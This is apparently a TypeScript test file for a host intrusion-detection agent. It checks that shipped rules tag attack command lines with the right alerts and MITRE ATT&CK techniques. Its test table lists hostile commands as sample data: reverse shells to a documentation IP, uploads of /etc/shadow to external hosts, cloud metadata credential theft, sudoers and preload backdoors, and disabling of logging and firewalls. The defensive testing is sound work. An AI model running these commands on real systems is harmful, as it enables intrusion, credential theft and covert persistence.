import assert from 'node:assert/strict';
import { evidenceOf } from '../../../src/agent/detections/alerts/evidence.ts';
import { builtInRules } from '../../../src/agent/detections/built-in.ts';
import { Detector } from '../../../src/agent/detections/detector.ts';
import type { Expression, ParsedRule } from '../../../src/agent/detections/sigma/rule.ts';
import { subjectOf } from '../../../src/agent/detections/subjects.ts';
import { SetClock } from './rules.ts';

/** Attacks by command line: alert, selection and techniques. */
const ATTACKS: Readonly<Record<string, readonly [alert: string, selection: RegExp, techniques: string]>> = {
  'bash -c bash -i >& /dev/tcp/198.51.100.7/443 0>&1': ['IoT_ReverseShell', /^shellToDevice$/, 'T1059.004;T1095'],
  'nc -e /bin/sh 198.51.100.7 443': ['IoT_ReverseShell', /^netcat;/, 'T1059.004;T1095'],
  'tee -a /root/.ssh/authorized_keys': ['IoT_LinuxBackdoor', /^key$/, 'T1098.004'],
  'crontab /tmp/.job': ['IoT_LinuxBackdoor', /^cron/, 'T1053.003'],
  'sh -c echo "eve ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers': ['IoT_LinuxBackdoor', /^sudoers$/, 'T1548.003'],
  'insmod /tmp/diamorphine.ko': ['IoT_LinuxBackdoor', /^module$/, 'T1547.006'],
  'sh -c echo /tmp/x.so > /etc/ld.so.preload': ['IoT_LinuxBackdoor', /^preload$/, 'T1574.006'],
  'mount --bind /tmp/e /proc/812': ['IoT_LinuxBackdoor', /^hidden$/, 'T1564.013'],
  'cat /etc/shadow': ['IoT_CredentialAccessTools', /^shadow$/, 'T1003.008'],
  'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/': [
    ...(['IoT_CredentialAccessTools', /^service$/, 'T1552.005'] as const),
  ],
  'find / -perm -4000 -type f': ['IoT_LinuxReconnaissance', /^setuid$/, 'T1083'],
  'sh -c echo "/tmp/.x/a &" >> /etc/rc.local': ['IoT_LinuxBackdoor', /^bootCode;writeInit$/, 'T1037.004'],
  'sh -c echo "/tmp/.x/a &" >> /etc/profile.d/x.sh': ['IoT_LinuxBackdoor', /^bootCode;writeLogin$/, 'T1546.004'],
  'cp /tmp/x.service /etc/systemd/system/x.service': ['IoT_LinuxBackdoor', /^bootFile;intoUnit$/, 'T1543.002'],
  'cp /tmp/99-x.rules /etc/udev/rules.d/99-x.rules': ['IoT_LinuxBackdoor', /^bootFile;intoUdev$/, 'T1546.017'],
  'hydra -l root -P /tmp/p ssh://192.168.1.7': ['IoT_KnownAttackTools', /^imageGuess$/, 'T1110'],
  'masscan -p23 10.0.0.0/8': ['IoT_KnownAttackTools', /^imageScan$/, 'T1046'],
  'curl -F file=@/etc/shadow https://transfer.sh/': ['IoT_EgressData', /^dropSite;/, 'T1567'],
  'curl -F file=@/etc/shadow https://203.0.113.9/u': ['IoT_EgressData', /^upload;secret$/, 'T1048'],
  'systemctl stop rsyslog': ['IoT_DisableAuditdLogging', /^syslog$/, 'T1562.006'],
  'apt-get purge -y auditd': ['IoT_DisableAuditdLogging', /^pkgAudit$/, 'T1562.012'],
  'fail2ban-client stop': ['IoT_DisableFirewall', /^bans$/, 'T1562.001'],
  'ufw disable': ['IoT_DisableFirewall', /^ufw$/, 'T1562.004'],
  'rm -f /var/mail/root': ['IoT_RemovelOfSystemLogs', /^remove;mail$/, 'T1070.008'],
  'usermod -o -u 0 games': ['IoT_SuspiciousUseradd', /^uid0Change$/, 'T1098'],
  'useradd -o -u 0 games': ['IoT_SuspiciousUseradd', /^uid0$/, 'T1136.001'],
};

/**
 * Reviewed: these command lines are two techniques at once. By title of the rule: the selections, empty for all, and their
 * techniques.
 */
const TWO_AT_ONCE: Readonly<Record<string, readonly [selections: readonly string[], techniques: RegExp]>> = {
  // An interpreter reads its commands from a connection.
  'Reverse shell': [[], /^T1059(\.\d{3})?;T1095$/],
  'Backdoor installed': [['listen', 'fifoListen', 'bindScript'], /^T1059(\.004)?;T1095$/],
  // The line fetches code and has an interpreter run it.
  'Download piped to a shell or executed in the same command line': [[], /^T1105;T1059(\.\d{3})?$/],
};

describe('The selections of shipped rules', () => {
  const { rules } = builtInRules();

  for (const [CommandLine, [alert, selection, techniques]] of Object.entries(ATTACKS))
    it(`map ${CommandLine} to ${techniques}`, () => {
      const payload = { Executable: `/usr/bin/${CommandLine.split(' ')[0]}`, CommandLine, ProcessId: 1, UserId: '0' };
      const subject = subjectOf({ name: 'ProcessCreate', payload, time: 0 });
      assert.ok(subject !== undefined);
      const hits = new Detector({ rules, clock: new SetClock() }).evaluate(subject);
      const found = hits
        .filter(({ rule }) => rule.alert === alert)
        .map((hit) => evidenceOf(hit, alert, { redact: true }));
      assert.ok(
        found.some((each) => selection.test(each.selection ?? '') && each.techniques.join(';') === techniques),
        JSON.stringify(found.map((each) => [each.selection, each.techniques])),
      );
    });

  it('assign one technique to each alert', () => {
    const used = new Set<string>();
    const wrong: string[] = [];
    for (const rule of rules.filter(({ facts }) => facts.alerts)) {
      for (const selections of selectionsOfAlerts(rule)) {
        const techniques = techniquesOf(rule, selections);
        if (techniques.length === 1) continue;
        const { title } = rule.facts;
        const [names, allowed] = TWO_AT_ONCE[title] ?? [];
        const isReviewed =
          (names?.length === 0 || selections.some((name) => names?.includes(name))) &&
          allowed?.test(techniques.join(';')) === true;
        if (isReviewed) used.add(title);
        else wrong.push(`${title}: ${selections.join(';')}: ${techniques.join(';') || 'none'}`);
      }
    }
    assert.deepEqual(wrong, []);
    assert.deepEqual([...used].sort(), Object.keys(TWO_AT_ONCE).sort());
  });

  it('exist in their rule, and refer to techniques', () => {
    const mapped = rules.filter(({ facts }) => facts.selectionTags !== undefined);
    assert.ok(mapped.length >= 10);
    for (const { facts } of mapped)
      for (const [name, tags] of Object.entries(facts.selectionTags ?? {}))
        assert.ok(
          tags.some((tag) => /^attack\.t\d{4}(\.\d{3})?$/.test(tag)),
          `${facts.title}: ${name}`,
        );
  });
});

/** What alerts of a rule can name as their selections; once without any for a correlation. */
const selectionsOfAlerts = (rule: ParsedRule): readonly (readonly string[])[] =>
  rule.is === 'correlation' ? [[]] : selectionsIn(rule.expression);

function selectionsIn(expression: Expression): readonly (readonly string[])[] {
  if (expression.selection !== undefined) return [[expression.selection]];
  if (expression.is === 'or') return expression.of.flatMap(selectionsIn);
  if (expression.is !== 'and') return [[]];
  return expression.of
    .map(selectionsIn)
    .reduce((all, each) => all.flatMap((names) => each.map((more) => [...names, ...more])), [[]]);
}

/** The techniques that an alert of these selections names. */
function techniquesOf({ facts }: ParsedRule, selections: readonly string[]): readonly string[] {
  const payload = { CommandLine: 'x', Executable: '/bin/x' };
  const subject = subjectOf({ name: 'ProcessCreate', payload, time: 0 });
  assert.ok(subject !== undefined);
  return evidenceOf({ rule: facts, subject, selections }, facts.alert ?? '', { redact: true }).techniques;
}
